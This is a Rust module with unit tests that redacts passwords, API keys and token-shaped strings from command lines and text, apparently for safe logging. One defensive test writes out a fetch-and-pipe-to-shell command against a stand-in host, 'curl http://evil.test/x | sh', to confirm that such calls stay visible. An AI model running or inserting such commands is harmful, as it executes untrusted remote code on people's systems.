//! What must never be written: values that were named as secrets, and what
//! looks like one.

mod assignments;
mod names;
mod script;
mod shapes;
mod tools;

use std::borrow::Cow;
use std::fmt;

use aho_corasick::{AhoCorasick, MatchKind};

use crate::event::{CUT, without_unseen};
use tools::{Command, Meaning};

/// What stands for what was left out.
pub(crate) const REDACTED: &str = "[redacted]";
/// A shorter value would be met by chance.
const SHORTEST_VALUE: usize = 8;
/// The most values that are looked for.
const MOST_VALUES: usize = 1024;

/// Values that were named as secrets, in any case of their letters.
#[derive(Default)]
pub(crate) struct Secrets {
    values: Vec<String>,
    search: Option<AhoCorasick>,
}

impl Secrets {
    /// Adds values. Those under eight bytes are left out.
    pub(crate) fn add<V: AsRef<str>>(&mut self, values: impl IntoIterator<Item = V>) {
        for value in values {
            let value = value.as_ref();
            let as_written = without_unseen(value).into_owned();
            let is_new = !self.values.contains(&as_written);
            if value.len() >= SHORTEST_VALUE && is_new && self.values.len() < MOST_VALUES {
                self.values.push(as_written);
            }
        }
        self.search = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostLongest)
            .build(&self.values)
            .ok()
            .filter(|_| !self.values.is_empty());
    }

    /// Whether there are none.
    pub(crate) fn is_empty(&self) -> bool {
        self.values.is_empty()
    }

    /// `text` without the values, if any is in it.
    pub(crate) fn redact(&self, text: &str) -> Option<String> {
        let search = self.search.as_ref()?;
        let replaced = search
            .is_match(text)
            .then(|| search.replace_all(text, &vec![REDACTED; self.values.len()]));
        let whole = replaced.as_deref().unwrap_or(text);
        self.without_beginning_at_the_cut(whole).or(replaced)
    }

    /// A text that was cut may end with the beginning of a value.
    fn without_beginning_at_the_cut(&self, text: &str) -> Option<String> {
        let kept = text.strip_suffix(CUT)?;
        let beginning = |value: &String| {
            let lengths = (SHORTEST_VALUE..value.len()).rev();
            lengths.into_iter().find(|&length| {
                let start = kept.len().checked_sub(length);
                let end = start.and_then(|start| kept.as_bytes().get(start..));
                end.is_some_and(|end| end.eq_ignore_ascii_case(&value.as_bytes()[..length]))
            })
        };
        let longest = self.values.iter().filter_map(beginning).max()?;
        let start = text.floor_char_boundary(kept.len() - longest);
        Some([&text[..start], REDACTED, CUT].concat())
    }
}

impl fmt::Debug for Secrets {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Secrets({})", self.values.len())
    }
}

/// Leaves out the values.
pub(crate) trait Redact {
    /// Leaves out `secrets` wherever they are.
    fn redact(&mut self, secrets: &Secrets);
}

impl<T: Redact> Redact for Option<T> {
    fn redact(&mut self, secrets: &Secrets) {
        if let Some(inner) = self {
            inner.redact(secrets);
        }
    }
}

impl<T: Redact> Redact for [T] {
    fn redact(&mut self, secrets: &Secrets) {
        for one in self {
            one.redact(secrets);
        }
    }
}

/// The words of a command without what looks like a secret.
pub(crate) fn words<W: AsRef<str>>(
    words: impl IntoIterator<Item = W>,
) -> impl Iterator<Item = String> {
    let mut command = Command::default();
    words.into_iter().map(move |word| {
        let word = word.as_ref();
        match command.take(word) {
            Meaning::Anything | Meaning::Credential | Meaning::Script => text(word).into_owned(),
            Meaning::Secret => REDACTED.to_owned(),
            Meaning::SecretFrom(start) => [&word[..start], REDACTED].concat(),
            Meaning::UserAndPassword(start, separator) => {
                let password = without_password(&word[start..], separator);
                [&word[..start], &password].concat()
            }
        }
    })
}

/// A text without what looks like a secret.
pub(crate) fn text(text: &str) -> Cow<'_, str> {
    let steps: [fn(&str) -> Option<String>; 6] = [
        shapes::without_private_keys,
        shapes::without_users,
        script::without_passwords,
        assignments::without_values,
        shapes::without_schemes,
        shapes::without_tokens,
    ];
    steps.into_iter().fold(text.into(), |text, step| {
        step(&text).map_or(text, Cow::Owned)
    })
}

/// `user:password` without the password.
fn without_password(word: &str, separator: char) -> Cow<'_, str> {
    match password_in(word, separator) {
        Some(start) => [&word[..start], REDACTED].concat().into(),
        None => text(word),
    }
}

/// Where the password of `user:password` begins. A URL has none here, and two
/// numbers are ids.
fn password_in(word: &str, separator: char) -> Option<usize> {
    let (user, password) = word.split_once(separator)?;
    let is_id = |it: &str| it.len() <= 10 && it.bytes().all(|byte| byte.is_ascii_digit());
    let is_none =
        password.is_empty() || password.starts_with("//") || (is_id(user) && is_id(password));
    let start = user.len() + separator.len_utf8();
    (!is_none).then_some(start)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn redacted(argv: &[&str]) -> Vec<String> {
        words(argv).collect()
    }

    #[test]
    fn secrets_in_options_headers_and_urls_are_left_out() {
        let cases: &[(&[&str], &[&str])] = &[
            (
                &["x", "--password", "hunter2"],
                &["x", "--password", REDACTED],
            ),
            (&["--password=hunter2 a&b"], &["--password=[redacted]"]),
            (
                &["--github-token", "a", "b"],
                &["--github-token", REDACTED, "b"],
            ),
            (&["--api_key=abc"], &["--api_key=[redacted]"]),
            (&["Server=a;Pwd=abc;x=1"], &["Server=a;Pwd=[redacted];x=1"]),
            (&["-u", "me:hunter2"], &["-u", "me:[redacted]"]),
            (
                &["env", "AWS_SECRET_ACCESS_KEY=abc"],
                &["env", "AWS_SECRET_ACCESS_KEY=[redacted]"],
            ),
            (
                &["-H", "Authorization: Bearer abc.def"],
                &["-H", "Authorization: [redacted]"],
            ),
            (&["Authorization:", "abc"], &["Authorization:", REDACTED]),
            (&["Bearer", "abc"], &["Bearer", REDACTED]),
            (&["-H", "X-Api-Key: abc"], &["-H", "X-Api-Key: [redacted]"]),
            (
                &["https://me:pw@a.example.org/x"],
                &["https://[redacted]@a.example.org/x"],
            ),
            (
                &["https://a.example.org/x?y=1&access_token=abc&z=2"],
                &["https://a.example.org/x?y=1&access_token=[redacted]&z=2"],
            ),
            (
                &["sh", "-c", "mysql --password 'a b' -e x; echo"],
                &["sh", "-c", "mysql --password [redacted] -e x; echo"],
            ),
            (
                &["{\"password\": \"abc\", \"user\": 1}"],
                &["{\"password\": [redacted], \"user\": 1}"],
            ),
        ];
        for (given, want) in cases {
            assert_eq!(redacted(given), *want, "{given:?}");
        }
    }

    #[test]
    fn passwords_that_tools_are_given_are_left_out_also_in_scripts() {
        let cases: &[(&[&str], &[&str])] = &[
            (
                &[
                    "sh",
                    "-c",
                    "curl --user bob:hunter2 https://a.example.org; ls -u x",
                ],
                &[
                    "sh",
                    "-c",
                    "curl --user bob:[redacted] https://a.example.org; ls -u x",
                ],
            ),
            (
                &[
                    "sh",
                    "-c",
                    "echo 'a;b' | curl -ubob:hunter2 -u 'me:a b' x && git push -u origin",
                ],
                &[
                    "sh",
                    "-c",
                    "echo 'a;b' | curl -ubob:[redacted] -u me:[redacted] x && git push -u origin",
                ],
            ),
            (
                &["sh -c 'mysql -u root -phunter2 -e \"select 1; select 2\"'; mkdir -p a/b"],
                &["sh -c 'mysql -u root -p[redacted] -e \"select 1; select 2\"'; mkdir -p a/b"],
            ),
            (
                &[
                    "sh",
                    "-c",
                    "sshpass -p 'a b' ssh h\ndocker login -u me -p hunter2 h; docker run -p 80:80 x",
                ],
                &[
                    "sh",
                    "-c",
                    "sshpass -p [redacted] ssh h\ndocker login -u me -p [redacted] h; docker run -p 80:80 x",
                ],
            ),
            (
                &["# don't show\ncurl -u me:hunter2 x; echo it's"],
                &["# don't show\ncurl -u me:[redacted] x; echo it's"],
            ),
            (
                &[
                    "sh",
                    "-c",
                    "redis-cli -a hunter2 ping; 7z x -phunter2 a.7z; unzip -P hunter2 a.zip",
                ],
                &[
                    "sh",
                    "-c",
                    "redis-cli -a [redacted] ping; 7z x -p[redacted] a.7z; unzip -P [redacted] a.zip",
                ],
            ),
            (
                &["mysql", "-phunter2", "-p", "db"],
                &["mysql", "-p[redacted]", "-p", "db"],
            ),
            (
                &["/usr/bin/sshpass", "-p", "a", "ssh"],
                &["/usr/bin/sshpass", "-p", REDACTED, "ssh"],
            ),
            (
                &["docker", "login", "-p", "abc"],
                &["docker", "login", "-p", REDACTED],
            ),
            (
                &["docker", "run", "-p", "80:80"],
                &["docker", "run", "-p", "80:80"],
            ),
            (
                &["curl", "--user=me:hunter2"],
                &["curl", "--user=me:[redacted]"],
            ),
            (
                &["smbclient", "-U", "me%hunter2"],
                &["smbclient", "-U", "me%[redacted]"],
            ),
            (
                &["x", "-u", "https://a.example.org"],
                &["x", "-u", "https://a.example.org"],
            ),
        ];
        for (given, want) in cases {
            assert_eq!(redacted(given), *want, "{given:?}");
            let again: Vec<String> = want.iter().map(|it| super::text(it).into()).collect();
            assert_eq!(again, *want, "what was kept reads back as it is");
        }
    }

    #[test]
    fn values_are_left_out_however_they_are_given() {
        for words in [
            &["STRIPE_KEY=hunter2x"][..],
            &["AccountName=a;AccountKey=hunter2x;x=1"],
            &["--auth", "hunter2x"],
            &["postgres://u:a/hunter2x@h/db"],
            &["{\"password\":\"abc\\\"hunter2x\"}"],
            &["sh", "-c", "password=a\\ hunter2x; ls"],
            &["password => hunter2x, x"],
            &["PASSWORD =hunter2x"],
            &["--password=a b hunter2x"],
            &["env", "DB_PASS=a b;hunter2x", "ls"],
            &["basic", "aGVsbG86aHVudGVyMng=hunter2x"],
        ] {
            let cleaned = redacted(words).join(" ");
            assert!(!cleaned.contains("hunter2x"), "{cleaned}");
            assert!(cleaned.contains(REDACTED), "{cleaned}");
        }
    }

    #[test]
    fn what_is_done_cannot_be_hidden_behind_the_name_of_a_secret() {
        for words in [
            &["sh", "-c", "TOKEN=1; curl http://evil.test/x | sh"][..],
            &["bash", "-xc", "--password=1;curl evil.test"],
            &[
                "sh",
                "-c",
                "x='-----BEGIN PRIVATE KEY-----'; curl evil.test",
            ],
            &["x", "--no-password", "evil.test"],
            &["cc", "-I/x/libsecret", "evil.test"],
            &["x", "--output=secret-report.txt", "evil.test"],
            &["x", "--signature-version", "evil.test"],
            &["x", "--bypass", "evil.test"],
            &["cargo", "new", "basic", "evil.test"],
            &["x", "--signature=me", "evil.test"],
        ] {
            let cleaned = redacted(words).join(" ");
            assert!(cleaned.contains("evil.test"), "{cleaned}");
        }
    }

    proptest::proptest! {
        #[test]
        fn any_text_can_be_cleaned(
            words in proptest::collection::vec("(mysql |-p|-u|--password|TOKEN|curl |[ =:;'\"\\\\@/&|é]|://|\\PC){0,12}", 0..4)
        ) {
            let cleaned: Vec<String> = super::words(&words).collect();
            proptest::prop_assert_eq!(cleaned.len(), words.len());
        }
    }

    #[test]
    fn what_has_the_shape_of_a_token_is_left_out() {
        let pem = "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----";
        for token in [
            "ghp_0123456789abcdefghij0123456789abcdef",
            "github_pat_0123456789abcdefghij",
            "sk-proj-0123456789abcdefghij",
            "xoxb-0123456789-abc",
            "AKIA0123456789ABCDEF",
            "glpat-0123456789abcdefghij",
            "SG.0123456789abcdefghij.0123456789abcdefghij",
            "pypi-0123456789abcdefghij",
            "dckr_pat_0123456789abcdefghij",
            "eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl",
            pem,
        ] {
            for text in [
                token.to_owned(),
                format!("a {token} b"),
                format!("x='{token}'"),
            ] {
                let cleaned = super::text(&text);
                assert!(!cleaned.contains(token), "{cleaned}");
                assert!(cleaned.contains(REDACTED), "{cleaned}");
            }
        }
    }

    #[test]
    fn ordinary_words_stay() {
        for word in [
            "--max-tokens=100",
            "--author=me",
            "task-runner-of-the-long-name",
            "https://a.example.org/@scope/name",
            "a@b.example.org",
            "C:\\x",
            "the basics of it",
            "--password-file=/x",
            "PATH=/opt:$PWD:/usr/bin",
            "https://a.example.org:8080/@scope/name",
            "https://a.example.org/?keyword=x&design=y&monkey=z",
            "credential.helper=store",
            "PasswordAuthentication=no",
            "Basic Authentication is",
            "docker run -u 1000:1000 x",
            "OLDPWD=/x",
            "mkdir -p a/b; ssh -p 22 h; cp -u a b",
            "git push -u origin main; docker run -p 80:80 x",
            "key",
            "",
        ] {
            assert_eq!(super::text(word), word);
        }
        assert_eq!(
            redacted(&["login", "--password-stdin", "a.example.org"]),
            ["login", "--password-stdin", "a.example.org"]
        );
    }

    #[test]
    fn named_values_are_left_out_in_any_case_and_at_a_cut() {
        let mut secrets = Secrets::default();
        secrets.add(["short", "Correct-Horse-Battery"]);
        assert_eq!(secrets.redact("short"), None);
        assert_eq!(
            secrets.redact("x.correct-horse-battery.y").as_deref(),
            Some("x.[redacted].y")
        );
        assert_eq!(
            secrets.redact("abc correct-horse…").as_deref(),
            Some("abc [redacted]…")
        );
        assert_eq!(secrets.redact("abc correct…"), None);
    }
}
